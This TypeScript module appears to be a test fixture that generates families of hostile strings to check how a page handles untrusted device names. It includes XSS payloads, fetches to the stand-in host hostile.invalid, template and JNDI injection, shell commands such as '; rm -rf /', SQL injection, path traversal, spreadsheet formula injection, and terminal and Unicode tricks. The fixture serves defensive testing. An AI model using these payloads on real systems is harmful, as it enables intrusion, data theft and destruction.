/** What every script of these strings would set on the page if it ran. */
export const RAN = '__hostileStringRan';
/** Where every picture, style and form of these strings would go. Nobody is there, and nobody may ask. */
const ELSEWHERE = 'hostile.invalid';

export interface HostileString {
  /** What it tries, for the name of a failure. */
  readonly family: string;
  readonly text: string;
}

const RUN = `globalThis.${RAN}=1`;

const EVENTS = [
  'onload',
  'onerror',
  'onfocus',
  'onmouseover',
  'onanimationstart',
  'ontoggle',
  'onbegin',
  'onpointerenter',
];
const TAGS = [
  'img src=x',
  'svg',
  'body',
  'input autofocus',
  'details open',
  'video src=x',
  'iframe',
  'math',
  'object data=x',
];
const html = EVENTS.flatMap((event) => TAGS.map((tag) => `<${tag} ${event}="${RUN}">`));

const script = [
  `<script>${RUN}</script>`,
  `<ScRiPt>${RUN}</sCrIpT>`,
  `<script src=//${ELSEWHERE}/x.js></script>`,
  `"><script>${RUN}</script>`,
  `'><script>${RUN}</script>`,
  `</title><script>${RUN}</script>`,
  `</textarea><script>${RUN}</script>`,
  `</style><script>${RUN}</script>`,
  `--><script>${RUN}</script>`,
  `]]><script>${RUN}</script>`,
  `<scr<script>ipt>${RUN}</script>`,
  `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `%3Cscript%3E${RUN}%3C/script%3E`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate attributeName=href values="javascript:${RUN}" /></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${RUN}>#x"/></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}>`,
  `<math href="javascript:${RUN}">x</math>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<template><script>${RUN}</script></template>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
];

const fetches = [
  `<img src="https://${ELSEWHERE}/a.png">`,
  `<link rel=stylesheet href="//${ELSEWHERE}/a.css">`,
  `<link rel=prefetch href="https://${ELSEWHERE}/">`,
  `<style>@import "https://${ELSEWHERE}/a.css";</style>`,
  `<style>*{background:url(https://${ELSEWHERE}/b)}</style>`,
  `<base href="https://${ELSEWHERE}/">`,
  `<meta http-equiv=refresh content="0;url=https://${ELSEWHERE}/">`,
  `<iframe src="https://${ELSEWHERE}/"></iframe>`,
  `<embed src="https://${ELSEWHERE}/x.swf">`,
  `<form action="https://${ELSEWHERE}/"><button>OK</button></form>`,
  `![x](https://${ELSEWHERE}/x.png)`,
  `[click](javascript:${RUN})`,
  `https://${ELSEWHERE}/${'path/'.repeat(20)}`,
  `<a href="https://${ELSEWHERE}/" ping="https://${ELSEWHERE}/">x</a>`,
];

const urls = [
  'javascript',
  'JaVaScRiPt',
  'java\tscript',
  ' javascript',
  'vbscript',
  'data',
  'blob',
  'file',
  'view-source',
].map((scheme) => `${scheme}:${scheme === 'data' ? `text/html,<script>${RUN}</script>` : RUN}`);

const templates = [
  `{{${RUN}}}`,
  `{{constructor.constructor("${RUN}")()}}`,
  `\${${RUN}}`,
  `#{${RUN}}`,
  `<%= ${RUN} %>`,
  `{% include "x" %}`,
  `{{name}}`,
  `$t(title)`,
  `{{count, number}}`,
  `%s%n%x%d`,
  `\${jndi:ldap://${ELSEWHERE}/a}`,
  `$(id)`,
  '`id`',
  `; rm -rf /`,
  `' OR 1=1 --`,
  `"; DROP TABLE asset; --`,
  `%_\\%`,
  `../../../../etc/passwd`,
  `..\\..\\windows\\win.ini`,
  `__proto__`,
  `constructor`,
  `toString`,
  `[object Object]`,
  `undefined`,
  `null`,
  `NaN`,
  `true`,
  `-1`,
  `1e309`,
  `0x7fffffff`,
  `{"$ne":null}`,
];

const formulas = ['=', '+', '-', '@', '\t=', '\r=', '\n=', '＝', '|', '%'].flatMap((start) => [
  `${start}HYPERLINK("https://${ELSEWHERE}/","x")`,
  `${start}cmd|' /C calc'!A0`,
  `${start}1+1`,
]);

const ESC = '\u001b';
const terminal = [
  `${ESC}[31mred${ESC}[0m`,
  `${ESC}[2J${ESC}[H`,
  `${ESC}]0;title\u0007`,
  `${ESC}]8;;https://${ELSEWHERE}/\u0007link${ESC}]8;;\u0007`,
  `${ESC}]52;c;aGVsbG8=\u0007`,
  `${ESC}P+q544e${ESC}\\`,
  `${ESC}[6n`,
  `${ESC}c`,
  '\u009b31mC1',
  '\u009d0;title\u009c',
  '\u0090q\u009c',
  'bell\u0007\u0007',
  'back\b\b\b\bspace',
  'carriage\rreturn',
  'line\nfeed',
  'crlf\r\nBcc: victim@hostile.invalid',
  'form\ffeed',
  'vertical\u000btab',
  'delete\u007f',
  'next\u0085line',
  'separator\u2028line',
  'separator\u2029paragraph',
  '{"level":60,"msg":"forged"}\n{"level":60}',
];

const BIDI = [
  '\u202a',
  '\u202b',
  '\u202d',
  '\u202e',
  '\u2066',
  '\u2067',
  '\u2068',
  '\u200e',
  '\u200f',
  '\u061c',
];
const bidi = BIDI.flatMap((mark) => [`name${mark}gnp.exe`, `${mark}${mark}${mark}`, `a${mark.repeat(40)}b`]);

const INVISIBLE = [
  '\u200b',
  '\u200c',
  '\u200d',
  '\u2060',
  '\ufeff',
  '\u00ad',
  '\u034f',
  '\u3164',
  '\u115f',
  '\u180e',
  '\u00a0',
  '\u2800',
];
const invisible = INVISIBLE.flatMap((mark) => [mark.repeat(5), `a${mark}b`, mark.repeat(300)]);

const zalgo = [5, 20, 80].flatMap((depth) =>
  ['\u0300', '\u0489', '\u20dd', '\u0e49', '\u1ab0'].map(
    (mark) => `z${mark.repeat(depth)}a${mark.repeat(depth)}`,
  ),
);

const long = [
  ...['W', 'a', 'ش', '漢', '𐍈', '👩‍👩‍👧‍👦', 'ﷺ', 'ᄒ', '᠎', '-', '_', '/', '.', ',', '\u00a0'].map((unit) =>
    unit.repeat(200),
  ),
  'Donaudampfschifffahrtselektrizitätenhauptbetriebswerkbauunterbeamtengesellschaft'.repeat(3),
  'aaaaaaaaaa '.repeat(400),
  ' '.repeat(400) + 'x',
];

const damaged = [
  'nul\u0000byte',
  '\u0000',
  '\u0000'.repeat(50),
  'half\ud800pair',
  '\udc00half',
  '\ud83d',
  'half at the end \ud83d',
  '\ufffe\uffff',
  '\ufffd'.repeat(30),
  '\u{10ffff}',
  '\u{e0001}\u{e0041}',
  'ünï̈cödé',
  '',
  ' ',
  '\t',
];

const huge = ['W'.repeat(1_000_000), `<b>${'x '.repeat(400_000)}</b>`];

const FAMILIES: Readonly<Record<string, readonly string[]>> = {
  html,
  script,
  fetches,
  urls,
  templates,
  formulas,
  terminal,
  bidi,
  invisible,
  zalgo,
  long,
  damaged,
  huge,
};

/** Strings that a device, or whoever names one, could send: each tries to run, to leave, to hide or to break a page. */
export const HOSTILE_STRINGS: readonly HostileString[] = Object.entries(FAMILIES).flatMap(([family, texts]) =>
  texts.map((text) => ({ family, text })),
);
